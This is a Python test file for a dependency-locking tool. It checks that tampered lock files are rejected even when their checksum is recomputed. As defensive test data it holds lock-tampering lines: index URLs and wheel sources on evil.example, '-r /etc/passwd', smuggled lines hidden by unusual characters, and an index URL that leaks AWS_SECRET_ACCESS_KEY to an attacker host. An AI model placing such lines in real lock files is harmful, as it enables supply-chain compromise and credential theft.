"""A lock with a new checksum is still taken only for what its requirements explain."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flowpack.dependencies import resolution
from flowpack.dependencies.lock_format import LockInputs, Pin, parse_lock, render_lock
from flowpack.dependencies.lock_review import UnexplainedLockError, check_installable, unexplained
from flowpack.dependencies.lockfile import LOCK_NAME, Lockfile, lock_dependencies
from flowpack.dependencies.requirements import Requirements
from flowpack.dependencies.serving_needs import ServingNeeds
from flowpack.dependencies.target import Target
from flowpack.errors import LockError
from tests.dependencies.conftest import Read
from tests.dependencies.test_lockfile import Scripted
from tests.paths import FLOWS, ROOT
from tests.recording import Recording

TARGET = Target.parse("3.11", "linux/amd64")
ZERO, ONE = f"sha256:{'0' * 64}", f"sha256:{'1' * 64}"
EVIL = f"evil==1 \\\n    --hash={ONE}\n"

Forge = Callable[[Callable[[str], str]], Path]


def with_checksum(text: str) -> str:
    """As whoever changes a lock by a program does it."""
    lines = [line for line in text.splitlines() if not line.startswith("# content: ")]
    digest = hashlib.sha256("".join(line + "\n" for line in lines).encode()).hexdigest()
    return text.replace(
        next(line for line in text.split("\n") if line.startswith("# content: ")), f"# content: sha256:{digest}"
    )


def lock(requirements: Requirements, **more: Any) -> Lockfile:
    return lock_dependencies(requirements, **{"needs": ServingNeeds(), "target": TARGET, **more})


@pytest.fixture
def requirements(read: Read) -> Requirements:
    return read("--index-url https://packages.example/simple\n--pre\nflask<4\nclick==8.1 ; python_version > '3'\n")


@pytest.fixture
def scripted(monkeypatch: pytest.MonkeyPatch) -> Scripted:
    brings = Pin("blinker", "1", (ZERO, ONE), ("flask",))
    resolver = Scripted(brings=brings)
    monkeypatch.setattr(resolution, "choose_resolver", lambda *_: resolver)
    return resolver


@pytest.fixture
def forge(requirements: Requirements, scripted: Scripted, tmp_path: Path) -> Forge:
    """Changes an honest lock and gives it the checksum that fits."""

    def write(change: Callable[[str], str]) -> Path:
        text = lock(requirements).text
        changed = change(text)
        assert changed != text
        path = tmp_path / LOCK_NAME
        path.write_text(with_checksum(changed), newline="")
        return path

    return write


def before_the_pins(line: str) -> Callable[[str], str]:
    return lambda text: text.replace("\n\nblinker==", f"\n{line}\n\nblinker==")


def added(lines: str) -> Callable[[str], str]:
    return lambda text: text + lines


def replaced(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new)


@pytest.mark.attack("M6")
@pytest.mark.parametrize(
    ("change", "message", "at"),
    [
        (before_the_pins("--extra-index-url https://evil.example/simple"), "is an option that the", "--extra-index"),
        (before_the_pins("--index-url https://evil.example/simple"), "is an option that the", "--index-url https://e"),
        (before_the_pins("--index-url  https://packages.example/simple"), "is an option that the", "--index-url  "),
        (before_the_pins("--find-links ."), "is an option that the", "--find-links"),
        (before_the_pins("-r /etc/passwd"), "is an option that the", "-r "),
        (before_the_pins("-e git+https://evil.example/x"), "is an option that the", "-e "),
        (before_the_pins("--trusted-host packages.example"), "is an option that the", "--trusted-host"),
        (before_the_pins("--no-binary :all:"), "is an option that the", "--no-binary"),
        (before_the_pins("--pre"), "is an option that the", "--pre"),
        (before_the_pins("--index-url https://packages.example/simple"), "is repeated", "--index-url https:"),
        (
            replaced("\n--index-url https://packages.example/simple\n", "\n"),
            "leaves out the option '--index-url https",
            None,
        ),
        (added(EVIL), "'evil' does not say what requires it", "evil==1"),
        (added(f"{EVIL}    # comment\n"), "'evil' does not say what requires it", "evil==1"),
        (added(f"{EVIL}    # via other\n"), "no requirement leads to 'evil'", "evil==1"),
        (added(f"{EVIL}    # via -r requirements.txt\n"), "no requirement leads to 'evil'", "evil==1"),
        (added(f"{EVIL}    # via flowpack, for serving\n"), "no requirement leads to 'evil'", "evil==1"),
        (added(f"{EVIL}    # via evil\n"), "no requirement leads to 'evil'", "evil==1"),
        (
            added(f"{EVIL}    # via evil2\n{EVIL.replace('evil', 'evil2')}    # via evil\n"),
            "no requirement leads to 'evil'",
            "evil==1",
        ),
        (added(EVIL.replace("evil==1", "Flask==1") + "    # via flask\n"), "'flask' is pinned twice", "Flask==1"),
        (
            added(EVIL.replace("evil==1", "evil @ https://evil.example/e.whl") + "    # via flask\n"),
            "comes from a URL that no requirement names",
            "evil @",
        ),
        (replaced("blinker==1 ", "blinker @ https://evil.example/b.whl "), "comes from a URL", "blinker @"),
        (replaced("flask==1 ", "flask @ https://evil.example/f.whl "), "comes from a URL", "flask @"),
        (replaced("flask==1 ", "flask==4.0 "), "'flask==4.0' does not satisfy 'flask<4'", "flask==4.0"),
        (
            replaced("promptflow-core==1.18.5 \\", "promptflow-core==1.17 \\"),
            "does not satisfy 'promptflow-core",
            "promptfl",
        ),
        (replaced("blinker==1 ", "blinker==1 ; python_version<'3' "), "has a marker", "blinker==1"),
        (replaced("blinker==1 ", "blinker[x]==1 "), "is not a line that flowpack writes", "blinker[x]"),
        (replaced("blinker==1 ", "blinker===1 "), "is not a line that flowpack writes", "blinker===1"),
        (replaced("blinker==1 ", "blinker==1 --config-settings=a=b "), "is not a line that flowpack", "blinker==1"),
        (replaced(f"--hash={ONE}", "--hash=md5:" + "1" * 32), "has a hash that is not sha256", "blinker==1"),
        (replaced(f"--hash={ONE}", "--hash=sha512:" + "1" * 128), "has a hash that is not sha256", "blinker==1"),
        (replaced(f"--hash={ONE}", "--hash=sha256:" + "1" * 63), "has a hash that is not sha256", "blinker==1"),
        (replaced(f"--hash={ONE}", f"--hash={ONE} --hash={ONE}"), "is not a line that flowpack writes", "    --hash"),
        (replaced(f"{ONE}\n", f"{ONE} \\\n"), "continues an entry that ends here", "    # via flask"),
        (
            replaced("# via flask", "# via flask\x0b--index-url https://evil.example"),
            "cannot be printed",
            "    # via fl",
        ),
        (replaced("# via flask", "# via flask\u2028evil==1 --hash=" + ONE), "cannot be printed", "    # via flask"),
        (replaced("# target: Python 3.11", "# target: Python 3.12"), "the header does not list the inputs", None),
        (
            lambda text: before_the_pins("--extra-index-url https://evil.example")(text).replace(
                "#   --pre", "#   --pre\n#   --extra-index-url https://evil.example"
            ),
            "the header does not list the inputs",
            None,
        ),
        (
            lambda text: (text + EVIL + "    # via -r requirements.txt\n").replace(
                "#   flask<4", "#   evil\n#   flask<4"
            ),
            "the header does not list the inputs",
            None,
        ),
    ],
)
def test_what_the_header_does_not_explain_is_refused_at_its_line(
    requirements: Requirements, forge: Forge, change: Callable[[str], str], message: str, at: str | None
) -> None:
    path = forge(change)
    for options in ({}, {"locked": True}):
        with pytest.raises(UnexplainedLockError) as raised:
            lock(requirements, existing=path, **options)
        assert message in raised.value.message
        assert "`flowpack lock SOURCE`" in str(raised.value.hint)
        where = raised.value.location
        assert where is not None
        lines = path.read_bytes().decode().split("\n")
        assert where.path == path
        assert lines[where.line - 1].startswith(at) if where.line else at is None, where  # type: ignore[arg-type]


@pytest.mark.attack("M6")
def test_a_package_taken_out_of_a_lock_is_missed(requirements: Requirements, forge: Forge) -> None:
    path = forge(lambda text: text.replace(f"gunicorn==1 \\\n    --hash={ZERO}\n    # via flowpack, for serving\n", ""))
    with pytest.raises(UnexplainedLockError, match="'gunicorn' is required but not in the lock"):
        lock(requirements, existing=path, locked=True)


@pytest.mark.attack("M6")
def test_hashes_that_the_requirements_state_are_the_only_ones(read: Read, scripted: Scripted, tmp_path: Path) -> None:
    requirements = read(f"flask==1 --hash={ZERO}\n")
    path = tmp_path / LOCK_NAME
    path.write_text(
        with_checksum(lock(requirements).text.replace("flask==1 \\\n", f"flask==1 \\\n    --hash={ONE} \\\n"))
    )
    with pytest.raises(UnexplainedLockError, match="'flask==1' does not satisfy 'flask==1 --hash"):
        lock(requirements, existing=path, locked=True)


@pytest.mark.attack("M6")
def test_flowpack_lock_makes_an_unexplained_lock_again(
    requirements: Requirements, forge: Forge, scripted: Scripted
) -> None:
    honest = lock(requirements).text
    path = forge(added(f"{EVIL}    # via -r requirements.txt\n"))
    said = Recording()
    assert lock(requirements, existing=path, renew=True, reporter=said).text == honest
    assert said[0] == "requirements.lock is stale: it was changed by hand"


def test_an_honest_lock_is_taken_whatever_its_line_ends(
    requirements: Requirements, scripted: Scripted, tmp_path: Path
) -> None:
    path = tmp_path / LOCK_NAME
    path.write_bytes(lock(requirements).text.replace("\n", "\r\n").encode())
    assert lock(requirements, existing=path, locked=True).origin == "reused requirements.lock"


@pytest.mark.parametrize("path", sorted({*FLOWS.rglob(LOCK_NAME), *(ROOT / "fixtures").rglob(f"passes/{LOCK_NAME}")}))
def test_locks_of_earlier_releases_are_explained(path: Path) -> None:
    assert list(unexplained(path.read_text())) == []


names = st.sampled_from(["flask", "click", "httpx", "a", "b", "c"])


@st.composite
def graphs(draw: st.DrawFn) -> tuple[LockInputs, list[Pin]]:
    """Pins of which each is a requirement or brought by another that was drawn before."""
    pins: list[Pin] = []
    required = []
    for name in draw(st.lists(names, min_size=1, unique=True)):
        brought = draw(st.sampled_from([None, *pins]))
        if brought is None:
            required.append(f"{name}>=1")
        via = (brought.name,) if brought else ("-r requirements.txt",)
        pins.append(Pin(name, "2", tuple(sorted(draw(st.sets(st.sampled_from([ZERO, ONE]), min_size=1)))), via))
    inputs = LockInputs(
        target=TARGET,
        requirements=tuple(sorted(required)),
        constraints=(),
        serving=(),
        options=("--extra-index-url https://example.org/simple",) * draw(st.booleans()),
        known_good=(),
    )
    return inputs, pins


@settings(deadline=None)
@given(graphs())
def test_what_flowpack_writes_is_explained(graph: tuple[LockInputs, list[Pin]]) -> None:
    assert list(unexplained(render_lock(*graph))) == []


@pytest.mark.attack("M6")
@settings(deadline=None)
@given(graphs(), st.data())
def test_one_line_more_or_less_is_found(graph: tuple[LockInputs, list[Pin]], data: st.DataObject) -> None:
    lines = render_lock(*graph).split("\n")[:-1]
    first = next(number for number, line in enumerate(lines) if not line.startswith("#"))
    body = [
        number for number in range(first, len(lines)) if lines[number] and not lines[number].lstrip().startswith("#")
    ]
    at = data.draw(st.sampled_from(body))
    if data.draw(st.booleans()) and "--hash" not in lines[at]:  # with fewer hashes it installs no more
        changed = [*lines[:at], *lines[at + 1 :]]
    else:
        more = ["--pre", "-i https://x", "z==1", f"z==1 --hash={ONE}", f"    --hash={ONE}", "\\", ";", "a b", lines[at]]
        changed = [*lines[:at], data.draw(st.sampled_from(more)), *lines[at:]]
    text = with_checksum("\n".join(changed) + "\n")
    try:
        parse_lock(text)
    except LockError:
        return
    assert list(unexplained(text))


@pytest.mark.attack("H4")
@pytest.mark.parametrize("header", ["", "# by hand\n"])
def test_a_lock_with_a_variable_is_not_installed_on_this_machine(header: str, tmp_path: Path) -> None:
    path = tmp_path / LOCK_NAME
    path.write_text(f"{header}--extra-index-url http://evil.example/${{AWS_SECRET_ACCESS_KEY}}/simple\n{EVIL}")
    with pytest.raises(UnexplainedLockError, match="the lock has a variable") as raised:
        check_installable(path)
    assert str(raised.value.location).endswith(f"{LOCK_NAME}:{1 + bool(header)}")


@pytest.mark.attack("M6")
def test_a_lock_that_its_header_does_not_explain_is_not_installed_on_this_machine(forge: Forge) -> None:
    with pytest.raises(UnexplainedLockError, match="no requirement leads to 'evil'"):
        check_installable(forge(added(f"{EVIL}    # via evil\n")))
